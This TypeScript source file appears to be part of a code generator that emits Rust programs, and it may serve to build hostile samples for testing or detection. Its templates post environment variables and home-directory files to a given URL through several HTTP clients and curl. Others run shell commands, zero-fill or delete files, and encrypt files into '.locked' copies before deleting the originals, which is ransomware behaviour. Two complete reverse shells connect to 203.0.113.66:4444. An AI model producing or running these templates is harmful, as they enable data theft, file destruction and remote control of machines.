import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `format!("{}/${below}", std::env::var("HOME").unwrap())`;
const main = (lines: readonly string[]): string => `${wrap("fn main() {", lines, "}", 4).join("\n")}\n`;

export const rust: Dialect = {
  name: "rust",
  file: "src/main.rs",
  run: "cargo run --release",
  imports: [
    ["Command::", "use std::process::Command;"],
    ["env::", "use std::env;"],
    ["fs::", "use std::fs;"],
    ["TcpStream", "use std::net::TcpStream;"],
    [".read_to_string(&mut", "use std::io::Read;"],
    ["write_all", "use std::io::Write;"],
    ["OpenOptions", "use std::fs::OpenOptions;"],
    ["WalkDir", "use walkdir::WalkDir;"],
    ["STANDARD", "use base64::{engine::general_purpose::STANDARD, Engine};"],
    ["Aes256Gcm", "use aes_gcm::{aead::Aead, Aes256Gcm, KeyInit};"],
  ],
  program: ({ definitions, body }, imports) => [...imports, "", ...definitions, "", main(body)].join("\n"),
  quote,
  environment: {
    one: (name) => `env::var(${name}).unwrap_or_default()`,
    all: 'env::vars().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join("\\n")',
  },
  contentOf: (below) => `fs::read_to_string(${home(below)}).unwrap_or_default()`,
  home,
  clients: {
    "reqwest-blocking": {
      post: (url, text) => [
        "let client = reqwest::blocking::Client::new();",
        `let _ = client.post(${url}).body(${text}).send();`,
      ],
      get: (url) => value("body", `let body = reqwest::blocking::get(${url}).unwrap().text().unwrap();`),
    },
    "reqwest-json": {
      post: (url, text) => [
        "let client = reqwest::blocking::Client::builder().build().unwrap();",
        `let answer = client.post(${url}).json(&serde_json::json!({ "data": ${text} })).send();`,
        'if let Err(e) = answer { eprintln!("{e}"); }',
      ],
    },
    ureq: {
      post: (url, text) => [`let _ = ureq::post(${url}).send_string(&${text});`],
      get: (url) => value("body", `let body = ureq::get(${url}).call().unwrap().into_string().unwrap();`),
    },
    "ureq-form": { post: (url, text) => [`let _ = ureq::post(${url}).send_form(&[("data", ${text}.as_str())]);`] },
    minreq: {
      post: (url, text) => [`minreq::post(${url}).with_body(${text}).send().ok();`],
      get: (url) => value("body", `let body = minreq::get(${url}).send().unwrap().as_str().unwrap().to_string();`),
    },
    attohttpc: { post: (url, text) => [`attohttpc::post(${url}).text(${text}).send().ok();`] },
    isahc: {
      post: (url, text) => [`let _ = isahc::post(${url}, ${text});`],
      get: (url) => value("body", `let body = isahc::get(${url}).unwrap().text().unwrap();`),
    },
    "curl-command": {
      post: (url, text) => [`Command::new("curl").args(["-s", "-d", &${text}, ${url}]).status().ok();`],
      get: (url) =>
        value(
          "body",
          `let out = Command::new("curl").arg("-s").arg(${url}).output().unwrap();`,
          "let body = String::from_utf8_lossy(&out.stdout).to_string();",
        ),
    },
  },
  shells: {
    status: { run: (command) => [`Command::new("sh").arg("-c").arg(${command}).status().ok();`] },
    output: {
      run: (command) => [`let _ = Command::new("bash").args(["-c", &${command}]).output();`],
      capture: (command) =>
        value(
          "seen",
          `let out = Command::new("sh").arg("-c").arg(${command}).output().unwrap();`,
          "let seen = String::from_utf8(out.stdout).unwrap();",
        ),
    },
    spawn: {
      run: (c) => [
        'let mut command = std::process::Command::new("/bin/sh");',
        `command.arg("-c").arg(${c});`,
        "command.spawn().unwrap();",
      ],
    },
  },
  variable: (name) => name,
  set: (name, expression) => `let ${name} = ${expression};`,
  define: (name, parameters, body) =>
    wrap(`fn ${name}(${parameters.map((each) => `${each}: &str`).join(", ")}) {`, body, "}", 4),
  getter: (name, expression) => ({
    definitions: wrap(`fn ${name}() -> String {`, [expression], "}", 4),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.map((each) => (each.startsWith('"') ? each : `&${each}`)).join(", ")});`,
  record: (url, text) => ({
    code: {
      definitions: ["struct Job {", "    target: &'static str,", "    text: String,", "}"],
      body: [`let job = Job { target: ${url}, text: ${text} };`],
    },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`for item in [${items.join(", ")}] {`, body("item"), "}", 4),
  forever: (body) => wrap("loop {", [...body, "std::thread::sleep(std::time::Duration::from_secs(60));"], "}", 4),
  save: (path, text) => [`fs::write(${path}, ${text}).unwrap();`],
  append: (path, text) => [
    `let mut f = OpenOptions::new().create(true).append(true).open(${path}).unwrap();`,
    `f.write_all(${text}.as_bytes()).unwrap();`,
  ],
  print: (text) => `println!("{}", ${text});`,
  walk: (folder, body) =>
    wrap(
      `for entry in WalkDir::new(${folder}).into_iter().filter_map(Result::ok) {`,
      ["let path = entry.path();", "if path.is_dir() { continue; }", ...body("path")],
      "}",
      4,
    ),
  remove: (file) => [`fs::remove_file(${file}).ok();`],
  overwrite: (file) => [`fs::write(${file}, vec![0u8; 65536]).ok();`],
  encrypt: (file) => [
    `let plain = fs::read(${file}).unwrap();`,
    "let cipher = Aes256Gcm::new_from_slice(KEY).unwrap();",
    "let locked = cipher.encrypt(NONCE.into(), plain.as_ref()).unwrap();",
    `fs::write(${file}.with_extension("locked"), locked).unwrap();`,
    `fs::remove_file(${file}).unwrap();`,
  ],
  removeTree: (folder) => [`fs::remove_dir_all(${folder}).ok();`],
  decode: (text) => `String::from_utf8(STANDARD.decode(${text}).unwrap()).unwrap()`,
  shellsBehindSockets: {
    "raw-descriptor": `use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nuse std::process::{Command, Stdio};\n\n${main(
      [
        'let s = TcpStream::connect("203.0.113.66:4444").unwrap();',
        "let fd = s.as_raw_fd();",
        'Command::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).stderr(unsafe { Stdio::from_raw_fd(fd) }).spawn().unwrap().wait().unwrap();',
      ],
    )}`,
    "line-loop": `use std::io::{BufRead, BufReader, Write};\nuse std::net::TcpStream;\nuse std::process::Command;\n\n${main(
      [
        'let mut s = TcpStream::connect("203.0.113.66:4444").unwrap();',
        "let reader = BufReader::new(s.try_clone().unwrap());",
        "for line in reader.lines() {",
        '    let out = Command::new("sh").arg("-c").arg(line.unwrap()).output().unwrap();',
        "    s.write_all(&out.stdout).unwrap();",
        "}",
      ],
    )}`,
  },
  sockets: {
    print: `use std::io::{Read, Write};\nuse std::net::TcpStream;\nuse std::process::Command;\n\n${main([
      'let mut s = TcpStream::connect("127.0.0.1:6379").unwrap();',
      's.write_all(b"PING\\r\\n").unwrap();',
      "let mut buffer = [0u8; 64];",
      "let n = s.read(&mut buffer).unwrap();",
      'println!("{}", String::from_utf8_lossy(&buffer[..n]));',
      'Command::new("git").args(["log", "--oneline", "-5"]).status().unwrap();',
    ])}`,
  },
};
